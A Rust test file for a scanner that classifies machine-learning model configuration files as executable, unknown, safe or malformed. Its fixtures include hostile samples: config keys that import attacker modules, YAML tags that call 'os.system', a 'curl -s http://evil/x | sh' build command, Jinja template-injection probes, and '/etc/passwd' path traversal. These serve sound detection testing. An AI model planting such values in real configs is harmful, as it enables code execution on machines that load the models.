//! What configurations do when a reader takes them: those of attackers, and those of models in use.

#![allow(clippy::unwrap_used, reason = "tests")]
use super::*;
use std::io::Cursor;

mod by_value;

/// Files with the verdict that they had before forms were closed, and keep.
const IN_USE: &str = include_str!("../../../../tests/artifact/configurations.jsonl");

/// The verdict of a file by its name.
fn verdict(name: &str, document: &str) -> Verdict {
    report(name, document).verdict
}

fn report(name: &str, document: &str) -> Report {
    let mut file = Cursor::new(document.as_bytes().to_vec());
    crate::scan::detect::scan(&mut file, name, &Limits::default()).unwrap()
}

#[test]
fn configurations_in_use_keep_their_verdict() {
    let mut count = 0_usize;
    for line in IN_USE.lines() {
        let case: serde_json::Value = serde_json::from_str(line).unwrap();
        let member = |name: &str| case.get(name).and_then(serde_json::Value::as_str).unwrap();
        let report = report(member("name"), member("content"));
        let found = report.verdict.name();
        let shown = (member("name"), member("source"), &report.findings);
        assert_eq!(found, member("verdict"), "{shown:?}");
        count = count.saturating_add(1);
    }
    assert!(count >= 60);
}

#[test]
fn readers_of_json_run_or_fetch_what_a_key_names() {
    for (name, document) in [
        (
            "config.json",
            r#"{"_attn_implementation_internal":"evil/flash-attn"}"#,
        ),
        (
            "config.json",
            r#"{"attn_implementation":"evil/attn@main:function"}"#,
        ),
        (
            "config.json",
            r#"{"_attn_implementation":{"text_config":"paged|evil/attn"}}"#,
        ),
        (
            "config.json",
            r#"{"text_config":{"attn_implementation":"evil/attn"}}"#,
        ),
        (
            "CONFIG.JSON",
            r#"{"attn\u005fimplementation":"evil\u002fattn"}"#,
        ),
        ("config.json", r#"{"activation_function":"os.abort"}"#),
        ("config.json", r#"{"activation_function":"evil-mod.Tanh"}"#),
        (
            "config.json",
            r#"{"activation_function":"torch.nn.evil/x"}"#,
        ),
        (
            "config.json",
            r#"{"sbert_ce_default_activation_function":"os.abort"}"#,
        ),
        (
            "config.json",
            r#"{"sentence_transformers":{"activation_fn":"os.abort"}}"#,
        ),
        (
            "config.json",
            r#"{"activation_fn":{"architectures":"os.abort"}}"#,
        ),
        ("config.json", r#"{"types":{"query_0":"evil.Module"}}"#),
        ("config.json", r#"{"model_file":"custom"}"#),
        ("a.json", r#"{"custom_imports":{"imports":["evil"]}}"#),
        ("a.json", r#"{"allow_remote":true}"#),
        (
            "router_config.json",
            r#"{"types":{"query_0":"evil.Module"}}"#,
        ),
        ("modules.json", r#"[{"idx":0,"path":"","type":"evil"}]"#),
        (
            "modules.json",
            r#"[{"path":"C:\\x","type":"sentence_transformers.models.X"}]"#,
        ),
        (
            "modules.json",
            r#"[{"path":".git","type":"sentence_transformers.models.X"}]"#,
        ),
        (
            "wordembedding_config.json",
            r#"{"tokenizer_class":"evil.Tokenizer"}"#,
        ),
        (
            "adapter_config.json",
            r#"{"megatron_core":"evil","megatron_config":{}}"#,
        ),
        (
            "adapter_config.json",
            r#"{"megatron_core":"megatron.core_evil"}"#,
        ),
        (
            "adapter_config.json",
            r#"{"base_model_name_or_path":"https://evil/x"}"#,
        ),
        (
            "adapter_config.json",
            r#"{"base_model_name_or_path":"hf://evil/x"}"#,
        ),
        (
            "adapter_config.json",
            r#"{"base_model_name_or_path":"../../evil"}"#,
        ),
        (
            "adapter_config.json",
            r#"{"base_model_name_or_path":"evil/x@main"}"#,
        ),
        ("adapter_config.json", r#"{"adapters":{"0":"evil/x"}}"#),
        (
            "model-settings.json",
            r#"{"implementation":"runtime.EvilRuntime"}"#,
        ),
        (
            "model-settings.json",
            r#"{"implementation":"mlserver_evil.Runtime"}"#,
        ),
        (
            "model-settings.json",
            r#"{"parameters":{"environment_tarball":"env"}}"#,
        ),
        (
            "model-settings.json",
            r#"{"parameters":{"uri":"file:///etc/x"}}"#,
        ),
        (
            "model-settings.json",
            r#"{"parameters":{"extra":{"pretrained_model":"gpt2"}}}"#,
        ),
        (
            "settings.json",
            r#"{"model_repository_implementation":"evil.Repository"}"#,
        ),
        (
            "settings.json",
            r#"{"logging_settings":{"filters":{"f":{"()":"os.abort"}}}}"#,
        ),
        ("settings.json", r#"{"logging_settings":"../logging.ini"}"#),
        (
            "a.json",
            r#"{"handlers":{"h":{"class":"logging.FileHandler"}}}"#,
        ),
        (
            "a.json",
            r#"{"handlers":{"h":{"stream":"ext://os.environ"}}}"#,
        ),
        (
            "genai_config.json",
            r#"{"model":{"session_options":{"custom_ops_library":"x"}}}"#,
        ),
        (
            "genai_config.json",
            r#"{"model":{"decoder":{"filename":"../x.onnx"}}}"#,
        ),
        ("model.json", r#"{"model":"evil/x"}"#),
        (
            "model.json",
            r#"{"learner":{},"version":[1],"model":"evil/x"}"#,
        ),
        ("model.json", r#"{"worker_cls":"evil"}"#),
        (
            "tokenizer_config.json",
            r#"{"fast_tokenizer_files":["../../x.json"]}"#,
        ),
        ("tokenizer_config.json", r#"{"vocab_file":"/etc/passwd"}"#),
        ("tokenizer_config.json", r#"{"tokenizer_file":"~/x.json"}"#),
        (
            "tokenizer_config.json",
            r#"{"tokenizer_file":"file:x.json"}"#,
        ),
        ("configuration.json", r#"{"plugins":["evil-pkg"]}"#),
        (
            "configuration.json",
            r#"{"requirements":"evil @ https://h/x"}"#,
        ),
        (
            "sentence_roberta_config.json",
            r#"{"tokenizer_name_or_path":"evil"}"#,
        ),
        (
            "sentence_xlm-roberta_config.json",
            r#"{"tokenizer_name_or_path":"evil/x"}"#,
        ),
        (
            "sentence_bert_config.json",
            r#"{"model_args":{"attn_implementation":"evil/x"}}"#,
        ),
        (
            "config_sentence_transformers.json",
            r#"{"activation_fn":"os.system"}"#,
        ),
        (
            "genai_config.json",
            r#"{"model":{"provider_options":[{"qnn":{"op_packages":"A:./x:S"}}]}}"#,
        ),
        (
            "model.json",
            r#"{"ec_transfer_config":{"ec_connector_module_path":"evil"}}"#,
        ),
        (
            "mlc-chat-config.json",
            r#"{"model_lib":"https://evil/x.so"}"#,
        ),
        (
            "a.json",
            r#"{"applications":[{"import_path":"evil.app:app"}]}"#,
        ),
        ("a.json", r#"{"_base_":["evil.py"]}"#),
    ] {
        assert_eq!(
            verdict(name, document),
            Verdict::Executable,
            "{name} {document}"
        );
    }
}

#[test]
fn readers_of_yaml_run_or_fetch_what_a_key_names() {
    for (name, document) in [
        ("a.yaml", "{\"_tar\\\nget_\": os.system}\n"),
        ("a.yaml", "? \"_tar\\\n  get_\"\n: os.system\n"),
        ("a.yaml", "model:\n  ? _target_\n  : os.system\n"),
        ("a.yaml", "\"\\x5ftarget_\": os.system\n"),
        ("a.yaml", "a: !!python/object/apply:os.system [id]\n"),
        (
            "a.yaml",
            "a: !<tag:yaml.org,2002:python/name:os.system> x\n",
        ),
        ("a.yaml", "model:\n  class_path: os.system\n"),
        ("a.yaml", "a:\n  loader_module: x\n"),
        ("a.yaml", "chat_template: \"{{ ''.__class__ }}\"\n"),
        ("a.yaml", "chat_template: |\n  {{ ''.__class__ }}\n"),
        ("a.yaml", "instruction_template: |-\n  {{ ''.__class__ }}\n"),
        (
            "a.yaml",
            "tokenizer: {chat-template: \"{{ ''.__class__ }}\"}\n",
        ),
        ("a.yaml", "a: !!python/tuple [!!python/name:os.system x]\n"),
        ("a.yaml", "!!str _target_: os.system\n"),
        ("a.yaml", "auto_map: !!str null\n"),
        ("a.yaml", "a: !!map {class_path: !!str os.system}\n"),
        ("a.yaml", "trust_remote_code: !!str false\n"),
        ("a.yaml", "a: b\n---\ntrust_remote_code: yes\n"),
        ("a.yaml", "trust_remote_code: 1\n"),
        ("a.yaml", "custom_imports: {imports: [evil]}\n"),
        ("a.yaml", "handlers: {h: {class: evil.Handler}}\n"),
        ("a.yaml", "handlers: {h: {'()': evil}}\n"),
        ("a.yaml", "a: &k _target_\n*k : os.system\n"),
        (
            "serve_config.yaml",
            "applications:\n- import_path: service\n",
        ),
        (
            "serve_config.yaml",
            "x: &e {pip: [evil]}\nruntime_env: *e\n",
        ),
        (
            "serve_config.yaml",
            "x: &e {import_path: evil}\na: {<<: *e}\n",
        ),
        ("serve_config.yaml", "import_path: 0bad.cafe\n"),
        ("serve.yaml", "applications:\n- import_path: os.system\n"),
        ("bentofile.yaml", "service: service\n"),
        ("bento.yaml", "service: service:svc\n"),
        ("model.yaml", "name: x\nmodule: evil.mod\n"),
        ("cog.yaml", "predict: predict.py:Predictor\n"),
        (
            "config.yaml",
            "build_commands: ['curl -s http://evil/x | sh']\n",
        ),
        ("config.yaml", "requirements: ['evil==1']\n"),
        ("MLmodel", "flavors: {tensorflow: {keras_module: evil}}\n"),
        ("keras_module.txt", "evil.mod"),
        ("pickle_module_info.txt", "evil\n"),
        ("bentofile.yaml", "python: {packages: [evil]}\n"),
        ("model-config.yaml", "handler: handler\n"),
        ("model-config.yaml", "handler: a\nhandler: {x: 1}\n"),
        (
            "MLmodel",
            "flavors: {python_function: {loader_module: evil}}\n",
        ),
        (
            "MLmodel",
            "flavors: {python_function: {model_code_path: x}}\n",
        ),
        (
            "MLmodel",
            "flavors: {python_function: {model_path: ../x}}\n",
        ),
        ("config.yaml", "{\"attn_implementation\": \"evil/x\"}\n"),
    ] {
        assert_eq!(
            verdict(name, document),
            Verdict::Executable,
            "{name} {document}"
        );
    }
}

#[test]
fn a_reference_needs_a_key_of_the_form() {
    for (name, document) in [
        ("config.json", r#"{"x":"os.system"}"#),
        ("config.json", r#"{"x":{"y":["words"," os.system\n"]}}"#),
        ("config.json", r#"{"x":"package.module:name"}"#),
        ("config.json", r#"{"x":"evil/x"}"#),
        ("config.json", r#"{"x":"evil/x@main"}"#),
        ("config.json", r#"{"x":"hf://evil/x"}"#),
        ("config.json", r#"{"x":"file:///etc/passwd"}"#),
        ("config.json", r#"{"x":"C:\\x"}"#),
        ("config.json", r#"{"x":"evil @ https://evil/x.zip"}"#),
        ("config.json", r#"{"x":"hf:evil/repo/file.bin"}"#),
        ("config.yaml", "x: ['curl -s http://evil/x | sh']\n"),
        ("model.yaml", "loader: os.system\n"),
        ("a.json", r#"{"model":{"type":"os.system"}}"#),
        ("a.yaml", "type: os.system\n"),
        ("a.yaml", "_base_: https://evil/x.yaml\n"),
        ("a.yaml", "_BASE_: ../../x.yaml\n"),
        ("config.json", r#"{"x":"a/../../b"}"#),
        ("config.json", r#"{"x":"~/b"}"#),
        ("config.json", r#"{"os.system":{}}"#),
        ("config.json", r#"{"x":{"../../x":1}}"#),
        ("config.json", r#"{"_NAME_OR_PATH":"evil/x"}"#),
        ("config.json", r#"{"torch_dtype":"os.system"}"#),
        (
            "config.json",
            r#"{"quantization_config":{"x":"os.system"}}"#,
        ),
        (
            "config.json",
            r#"{"pretrained_cfg":{"url":"https://host/x.pth"}}"#,
        ),
        ("generation_config.json", r#"{"x":"os.system"}"#),
        ("settings.json", r#"{"x":"os.system"}"#),
        ("model.json", r#"{"x":"os.system"}"#),
        ("config.yaml", "pipeline:\n  name: os.system\n"),
        ("serve_config.yaml", "x: 'evil/x'\n"),
        ("logging.yaml", "x: evil.handlers\n"),
        ("a.yaml", "a: [!thing x]\n"),
        ("a.yaml", "a: !include b.yaml\n"),
        ("a.yaml", "a: !!binary X190YXJnZXRf\n"),
        ("a.yaml", "a: [!!str, b]\n"),
        ("a.yaml", "a: !<tag:yaml.org,2002:str> b\n"),
        ("a.yaml", "a: !!s%74r b\n"),
        ("a.yaml", "a: [!!str b, !!seq[c]]\n"),
        ("a.yaml", "!!merge \"<<\": {a: b}\n"),
        ("a.yaml", "a: [???]\n"),
        ("a.yaml", "model:\n  target: [label, ldm.models.X]\n"),
        ("config.yaml", "monitors: val/loss\n"),
        ("a.yaml", "model: {target: os.system}\n"),
        ("a.yaml", "%TAG ! tag:yaml.org,2002:py\n---\na: 1\n"),
        ("a.yaml", "a: 1 #\u{2028}_target_: os.system\n"),
        ("a.yaml", "? [a]\n: b\n"),
    ] {
        assert_eq!(
            verdict(name, document),
            Verdict::Unknown,
            "{name} {document}"
        );
    }
}

#[test]
fn words_numbers_and_notes_are_data() {
    for (name, document) in [
        (
            "config.json",
            r#"{"x":"gelu_new","y":[1,true,null,"4.31.0"],"z":"two words"}"#,
        ),
        (
            "config.json",
            r#"{"_name_or_path":"C:\\Users\\a","architectures":["a.B"]}"#,
        ),
        (
            "config.json",
            r#"{"text_config":{"_name_or_path":"/data/x"}}"#,
        ),
        (
            "config.json",
            r#"{"pretrained_cfg":{"origin_url":"https://host/x","paper_ids":"arXiv:1"}}"#,
        ),
        (
            "config.json",
            r#"{"_attn_implementation":"flash_attention_2"}"#,
        ),
        ("other.json", r#"{"x":"os.system","y":"evil/x","z":"../x"}"#),
        (
            "vocab.json",
            r#"{"()":1,"class":2,"implementation":3,"os.system":4}"#,
        ),
        (
            "model.json",
            r#"{"learner":{"feature_names":["a.b"]},"version":[1]}"#,
        ),
        (
            "config.json",
            r#"{"description":"see https://host for more","a":"hf: or s3"}"#,
        ),
        (
            "config_sentence_transformers.json",
            r#"{"__version__":{"pytorch":"2.2.2+cu118"},"prompts":{"q":"a.b"}}"#,
        ),
        (
            "sentence_bert_config.json",
            r#"{"modality_config":{"text":{"method":"forward"}},"max_seq_length":1}"#,
        ),
        (
            "model.yaml",
            "backbone: [[-1, 1, nn.Upsample, [None, 2]]]\n",
        ),
        ("model.yaml", "module: bentoml.sklearn\ncontext: {a: b.c}\n"),
        ("keras_module.txt", "tensorflow.keras\n"),
        ("pickle_module_info.txt", "mlflow.pytorch.pickle_module"),
        (
            "a.yaml",
            "_base_: base.yaml\ntype: yolo v8.1\nimport_path: x\n",
        ),
        ("a.yaml", "a: 1\nb: [x, y]\nc: wow!\nd: x.y\n"),
        (
            "a.yaml",
            "# _target_: and !!python/object\ntarget_size: [1]\n",
        ),
        ("a.yaml", "%YAML 1.2\n---\na: &x {b: c}\nd: {<<: *x}\n"),
        ("a.yaml", "a: \"\\u00e9\"\nb: \"!\"\n"),
        (
            "a.yaml",
            "a: hey !\nb: \"!x\"\nc: [d!, \"e !f\", 'g !', h !i]\nj!: {k: l ! m}\n",
        ),
        (
            "a.yaml",
            "a: |\n  !x y\nb: >-\n  z\n  !!python/name:x\n# !w !!v\nu: https://t/#!/s\n",
        ),
        (
            "a.yaml",
            "target_sample_rate: 24000\nmy_target: a.b\ntarget: 0.5\nb: {target: label}\n",
        ),
        ("a.yaml", "data: ???\nmodel:\n  name: ???\n"),
        (
            "a.yaml",
            "a: !!python/tuple\n- 4096\n- 2048\nb: !!float 1\nc: &x !!str 5\nd: [!!int \"1\"]\n",
        ),
        ("config.yaml", "model: {monitor: val/loss}\n"),
        (
            "a.yaml",
            "instruction_template: |-\n  {%- for m in messages %}{{ m.content }}{% endfor %}\n",
        ),
        (
            "logging.yaml",
            "version: 1\nhandlers: {h: {class: logging.StreamHandler}}\n",
        ),
        (
            "serve_config.yaml",
            "x: {host: 0.0.0.0, port: 8000}\nroute_prefix: /\n",
        ),
    ] {
        assert_eq!(verdict(name, document), Verdict::Safe, "{name} {document}");
    }
}

#[test]
fn a_duplicate_key_ends_json_and_each_of_them_counts_in_yaml() {
    let document = r#"{"x":"words","\u0078":"os.system"}"#;
    assert_eq!(verdict("config.json", document), Verdict::Malformed);
    let document = "x: words\nx: os.system\n";
    assert_eq!(verdict("config.yaml", document), Verdict::Unknown);
    assert_eq!(verdict("config.json", "\u{feff}{}"), Verdict::Malformed);
    // Readers of YAML refuse a key of two lines outside of braces.
    let document = "\"_tar\\\nget_\": os.system\n";
    assert!(verdict("a.yaml", document) >= Verdict::Malformed);
}

#[test]
fn a_long_key_is_looked_at_once() {
    let (key, texts) = ("k".repeat(100_000), "\"x\",".repeat(10_000));
    let document = format!(r#"{{"{key}":[{texts}"x"]}}"#);
    let mut report = Report::new("json");
    let mut config = Config::new(&mut report, &JSON);
    let mut file = Cursor::new(document.into_bytes());
    let mut source = Source::new(&mut file, rules::JSON_TRUNCATED).unwrap();
    let (limits, rule) = (Limits::default(), rules::JSON_DOCUMENT);
    json::walk(&mut source, &limits, rule, &mut config).unwrap();
    assert_eq!(config.key_bytes, key.len());
    // Findings show only the beginning of a key.
    let key = format!("py/{}", "k".repeat(100_000));
    let document = format!(r#"{{"{key}":[{texts}"x"]}}"#);
    let report = self::report("a.json", &document);
    assert!(report.findings.iter().all(|it| it.detail.len() < 300));
}

#[test]
fn keys_with_code_are_executable_wherever_they_are() {
    for document in [
        r#"{"auto_map":{"AutoModel":"modeling.Model"}}"#,
        r#"{"a":[{"auto_map":{}}]}"#,
        r#"{"\u0061uto_map":{}}"#,
        r#"{"custom_pipelines":{"x":{"impl":"x.X"}}}"#,
        r#"{"_target_":"os.system"}"#,
        r#"{"class_path":"os.system"}"#,
        r#"{"custom_generate":"a/b"}"#,
        r#"{"trust_remote_code":true}"#,
        r#"{"weight_map":{"a":"../b.bin"}}"#,
        r#"{"trust_remote_code":"yes"}"#,
        r#"{"trust_remote_code":1}"#,
        r#"{"trust_remote_code":-1}"#,
        r#"{"trust_remote_code":0.5}"#,
        r#"{"model":{"_target_":"os.system"}}"#,
        r#"{"__loader__":"MethodNode"}"#,
        r#"{"__module__":"os","__class__":"system"}"#,
        r#"{"policy_class":{":serialized:":"gAQu"}}"#,
        r#"{"py/object":"os.system"}"#,
        r#"{"weight_map":{"a":"../../x.bin"}}"#,
        r#"{"weight_map":{"a":"/tmp/x.bin"}}"#,
        // A scan leaves git's own files out, and a loader reads them.
        r#"{"weight_map":{"a":".gitattributes"}}"#,
        r#"{"weight_map":{"a":"C:\\x.bin"}}"#,
        r#"{"auto_mapping":{"parent_library":"os"}}"#,
        r#"{"chat_template":"{{ ''.__class__ }}"}"#,
        r#"{"chat_template":[{"name":"x","template":"{{ ''.__class__ }}"}]}"#,
        r#"{"chat_template":"\u007b{ ''.__class__ }}"}"#,
        r#"{"trust_remote_code":[0]}"#,
        r#"{"a":{"trust_remote_code":{"b":false}}}"#,
        r#"{"chat_template":{"name":"{{ ''.__class__ }}"}}"#,
        r#"{"chat_template":"{{ x | sum(attribute='_' ~ '_class_' ~ '_') }}"}"#,
        r#"[{"idx":0,"type":"os.system"}]"#,
        r#"{"_class_name":["pipeline","X"]}"#,
        r#"{"layers":[{"class_name":"Lambda"}]}"#,
        r#"{"layers":[{"registered_name":"keras>Lambda"}]}"#,
        r#"{"auto_map":[null]}"#,
        r#"{"auto_map":0,"x":null}"#,
        r#"{"a":{"auto_map":{"auto_map":null}}}"#,
    ] {
        assert_eq!(
            verdict("a.json", document),
            Verdict::Executable,
            "{document}"
        );
    }
}

#[test]
fn other_documents_are_data() {
    for document in [
        r#"{"architectures":["LlamaForCausalLM"],"hidden_size":4096,"x":null}"#,
        r#"{"trust_remote_code":false,"chat_template":"{{ messages[0]['role'] }}"}"#,
        r#"{"chat_template":[{"name":"__x__","template":"{{ bos_token }}"}]}"#,
        r#"[{"idx":0,"type":"sentence_transformers.models.Pooling"}]"#,
        r#"{"_class_name":"StableDiffusionPipeline"}"#,
        r#"{"weight_map":{"a/b":"model-00001-of-00002.safetensors"}}"#,
        r#"[{"idx":0,"path":"","type":"sentence_transformers.models.Transformer"}]"#,
        r#"{"trust_remote_code":0,"hidden_size":8}"#,
        // The tokens of a vocabulary.
        r#"{"__module__":7,"_target_":8,"py/object":9}"#,
        // Adapters have this key without a value.
        r#"{"auto_mapping":null}"#,
        r#"{"auto_map":null,"x":[{"custom_pipeline":null}]}"#,
        r#"{"loss":NaN,"target":"x1","targets":"a.b","dtype":{"target":"a b. c"}}"#,
        r#"{"unet":["my_unet","Unet"]}"#,
    ] {
        assert_eq!(verdict("a.json", document), Verdict::Safe, "{document}");
    }
    assert_eq!(
        verdict("a.json", r#"{"x":{"class_name":"Dense"}}"#),
        Verdict::Unknown
    );
    assert_eq!(verdict("a.json", r#"[{"path":"../x"}]"#), Verdict::Unknown);
    let target = r#"{"model":{"target":"ldm.models.Model","params":{}}}"#;
    assert_eq!(verdict("a.json", target), Verdict::Unknown);
    assert_eq!(verdict("a.json", "{"), Verdict::Malformed);
}

#[test]
fn components_of_a_pipeline_come_from_known_libraries() {
    for (components, expected) in [
        (
            r#""unet":["diffusers","Unet"],"a":[null,null]"#,
            Verdict::Safe,
        ),
        (r#""a":["stable_diffusion","SafetyChecker"]"#, Verdict::Safe),
        (r#""b":[10,20],"c":{"d":["e"]},"f":"g""#, Verdict::Safe),
        (
            r#""a":[null,null,{"type_hint":["diffusers","Unet"],"repo":null}]"#,
            Verdict::Safe,
        ),
        // The component is fetched.
        (
            r#""a":[null,null,{"type_hint":["diffusers","Unet"],"repo":"a/b"}]"#,
            Verdict::Unknown,
        ),
        (
            r#""a":["diffusers","U",{"pretrained_model_name_or_path":"evil/x"}]"#,
            Verdict::Unknown,
        ),
        (r#""unet":["my_unet","Unet"]"#, Verdict::Executable),
        (
            r#""a":["diffusers","X"],"b":["os","system"]"#,
            Verdict::Executable,
        ),
        (r#""unet":[null,"system"]"#, Verdict::Executable),
        (
            r#""a":[null,null,{"type_hint":["os","system"]}]"#,
            Verdict::Executable,
        ),
    ] {
        let document = format!(r#"{{"_class_name":"Pipeline",{components}}}"#);
        let mut file = Cursor::new(document.clone().into_bytes());
        let report = scan_pipeline(&mut file, &Limits::default()).unwrap();
        assert_eq!(report.verdict, expected, "{document}");
    }
}

#[test]
fn templates_in_files_are_checked() {
    let long = "x ".repeat(jinja::MAX_BYTES);
    for (template, expected) in [
        ("{{ x }}", Verdict::Safe),
        ("{{ x.__class__ }}", Verdict::Executable),
        (long.as_str(), Verdict::Unknown),
    ] {
        assert_eq!(verdict("chat_template.jinja", template), expected);
    }
}
